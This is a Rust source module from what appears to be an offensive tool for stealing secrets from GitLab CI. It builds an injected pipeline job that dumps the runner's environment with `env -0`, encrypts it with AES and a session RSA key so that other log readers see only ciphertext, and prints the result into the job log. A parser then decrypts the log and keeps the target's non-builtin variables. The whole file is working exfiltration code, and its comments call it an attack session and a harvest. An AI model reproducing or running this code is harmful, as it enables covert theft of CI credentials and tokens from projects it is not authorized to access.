//! The injected CI definition and the parser for its job log.
//!
//! The job seals its environment for this session only: it draws a fresh
//! AES-256 key, encrypts `env -0` with it in CBC mode, and wraps the key with
//! the session's RSA public key (OAEP, SHA-256). Both blobs are printed
//! base64-encoded between two marker lines that carry a per-session nonce,
//! so output from earlier runs or from the command echo itself can never be
//! mistaken for ours. Anyone else reading the job log sees ciphertext.

use std::fmt;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use cbc::cipher::block_padding::Pkcs7;
use cbc::cipher::{BlockDecryptMut, KeyIvInit};
use rsa::pkcs8::{EncodePublicKey, LineEnding};
use rsa::{Oaep, RsaPrivateKey};
use sha2::Sha256;

use crate::error::ReconError;

pub const JOB_NAME: &str = "glrecon-harvest";
pub const BRANCH_PREFIX: &str = "glrecon-";
/// Where the job writes the session public key before sealing.
pub const PUBLIC_KEY_FILE: &str = "glrecon.pub";

const KEY_BITS: usize = 2048;
const AES_KEY_LEN: usize = 32;
const AES_IV_LEN: usize = 16;

/// Variables every runner injects; never secrets of the target.
const BUILTIN_PREFIXES: &[&str] = &["CI_", "GITLAB_", "FF_", "RUNNER_"];
const BUILTIN_NAMES: &[&str] = &[
    "CI",
    "GITLAB_CI",
    "HOME",
    "HOSTNAME",
    "LANG",
    "LOGNAME",
    "OLDPWD",
    "PATH",
    "PWD",
    "SHELL",
    "SHLVL",
    "TERM",
    "USER",
    "_",
];

fn random_hex(bytes: usize) -> String {
    let mut buf = vec![0u8; bytes];
    rand::fill(&mut buf[..]);
    hex::encode(buf)
}

pub fn session_nonce() -> String {
    random_hex(8)
}

/// `glrecon-` followed by 8 hex characters.
pub fn generated_branch_name() -> String {
    format!("{BRANCH_PREFIX}{}", random_hex(4))
}

pub fn begin_marker(nonce: &str) -> String {
    format!("GLRECON-{nonce}-BEGIN")
}

pub fn end_marker(nonce: &str) -> String {
    format!("GLRECON-{nonce}-END")
}

// ---------------------------------------------------------------------------
// Session key
// ---------------------------------------------------------------------------

/// RSA keypair owned by one attack session. Only the public half is ever
/// written upstream.
pub struct SessionKey {
    private: RsaPrivateKey,
    public_pem: String,
}

impl fmt::Debug for SessionKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("SessionKey").finish_non_exhaustive()
    }
}

impl SessionKey {
    pub fn generate() -> Result<Self, ReconError> {
        let private = RsaPrivateKey::new(&mut rand_core::OsRng, KEY_BITS)
            .map_err(|e| ReconError::Configuration(format!("session key generation failed: {e}")))?;
        let public_pem = private
            .to_public_key()
            .to_public_key_pem(LineEnding::LF)
            .map_err(|e| ReconError::Configuration(format!("session key encoding failed: {e}")))?;
        Ok(Self {
            private,
            public_pem,
        })
    }

    /// SPKI PEM of the public half.
    pub fn public_pem(&self) -> &str {
        &self.public_pem
    }

    /// Unwrap the hex key material, then decrypt the dump with it.
    fn open(&self, sealed: &[u8], ciphertext: &[u8]) -> Option<Vec<u8>> {
        let material = self.private.decrypt(Oaep::new::<Sha256>(), sealed).ok()?;
        let material = hex::decode(material.trim_ascii()).ok()?;
        if material.len() != AES_KEY_LEN + AES_IV_LEN {
            return None;
        }
        let (key, iv) = material.split_at(AES_KEY_LEN);
        let mut buf = ciphertext.to_vec();
        let plain = cbc::Decryptor::<aes::Aes256>::new_from_slices(key, iv)
            .ok()?
            .decrypt_padded_mut::<Pkcs7>(&mut buf)
            .ok()?;
        Some(plain.to_vec())
    }
}

/// Single-job pipeline that prints the sealed job environment between
/// markers.
pub fn pipeline_definition(nonce: &str, key: &SessionKey) -> String {
    let script = [
        format!(
            "echo \"{}\" | base64 -d > {PUBLIC_KEY_FILE}",
            STANDARD.encode(key.public_pem())
        ),
        format!("K=$(openssl rand -hex {AES_KEY_LEN})"),
        format!("IV=$(openssl rand -hex {AES_IV_LEN})"),
        format!("echo \"{}\"", begin_marker(nonce)),
        format!(
            "printf '%s%s' \"$K\" \"$IV\" | openssl pkeyutl -encrypt -pubin -inkey {PUBLIC_KEY_FILE} \
             -pkeyopt rsa_padding_mode:oaep -pkeyopt rsa_oaep_md:sha256 -pkeyopt rsa_mgf1_md:sha256 \
             | base64 | tr -d '\\n'"
        ),
        "echo \"\"".to_owned(),
        "env -0 | openssl enc -aes-256-cbc -K \"$K\" -iv \"$IV\" | base64 | tr -d '\\n'".to_owned(),
        "echo \"\"".to_owned(),
        format!("echo \"{}\"", end_marker(nonce)),
    ];

    let mut out = format!("stages:\n  - {JOB_NAME}\n\n{JOB_NAME}:\n  stage: {JOB_NAME}\n  script:\n");
    for line in script {
        out.push_str("    - ");
        out.push_str(&line);
        out.push('\n');
    }
    out
}

// ---------------------------------------------------------------------------
// Harvest parsing
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum HarvestStatus {
    /// At least one non-builtin variable was recovered.
    Records,
    /// The dump was present but held nothing beyond runner built-ins.
    Empty,
    /// The job log does not contain both markers.
    MarkersMissing,
    /// The markers were found but the text between them did not decode.
    Undecodable,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Harvest {
    pub status: HarvestStatus,
    /// `(key, value)` pairs in the order the job printed them.
    pub pairs: Vec<(String, String)>,
}

impl Harvest {
    fn failed(status: HarvestStatus) -> Self {
        Self {
            status,
            pairs: Vec::new(),
        }
    }

    pub fn is_failure(&self) -> bool {
        matches!(
            self.status,
            HarvestStatus::MarkersMissing | HarvestStatus::Undecodable
        )
    }
}

pub fn is_builtin(key: &str) -> bool {
    BUILTIN_NAMES.contains(&key) || BUILTIN_PREFIXES.iter().any(|p| key.starts_with(p))
}

/// Drop ANSI colour sequences and carriage returns from one log line.
fn clean_line(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => {
                if chars.peek() == Some(&'[') {
                    chars.next();
                    for c in chars.by_ref() {
                        if c.is_ascii_alphabetic() {
                            break;
                        }
                    }
                }
            }
            '\r' => {}
            c => out.push(c),
        }
    }
    out.trim().to_owned()
}

/// Recover the exported variables from a job log sealed for `key`.
pub fn parse_trace(trace: &str, nonce: &str, key: &SessionKey) -> Harvest {
    let begin = begin_marker(nonce);
    let end = end_marker(nonce);

    let lines: Vec<String> = trace.lines().map(clean_line).collect();
    let Some(start) = lines.iter().position(|l| *l == begin) else {
        return Harvest::failed(HarvestStatus::MarkersMissing);
    };
    let Some(stop) = lines[start + 1..].iter().position(|l| *l == end) else {
        return Harvest::failed(HarvestStatus::MarkersMissing);
    };

    // Wrapped key first, then the encrypted dump.
    let blocks: Vec<&str> = lines[start + 1..start + 1 + stop]
        .iter()
        .filter(|l| !l.is_empty() && !l.starts_with("$ "))
        .map(String::as_str)
        .collect();
    let [sealed, body] = blocks[..] else {
        return Harvest::failed(HarvestStatus::Undecodable);
    };
    let (Ok(sealed), Ok(body)) = (STANDARD.decode(sealed), STANDARD.decode(body)) else {
        return Harvest::failed(HarvestStatus::Undecodable);
    };
    let Some(raw) = key.open(&sealed, &body) else {
        return Harvest::failed(HarvestStatus::Undecodable);
    };

    let text = String::from_utf8_lossy(&raw);
    let pairs: Vec<(String, String)> = text
        .split('\0')
        .filter_map(|entry| entry.split_once('='))
        .filter(|(key, _)| !key.is_empty() && !is_builtin(key))
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect();

    let status = if pairs.is_empty() {
        HarvestStatus::Empty
    } else {
        HarvestStatus::Records
    };
    Harvest { status, pairs }
}
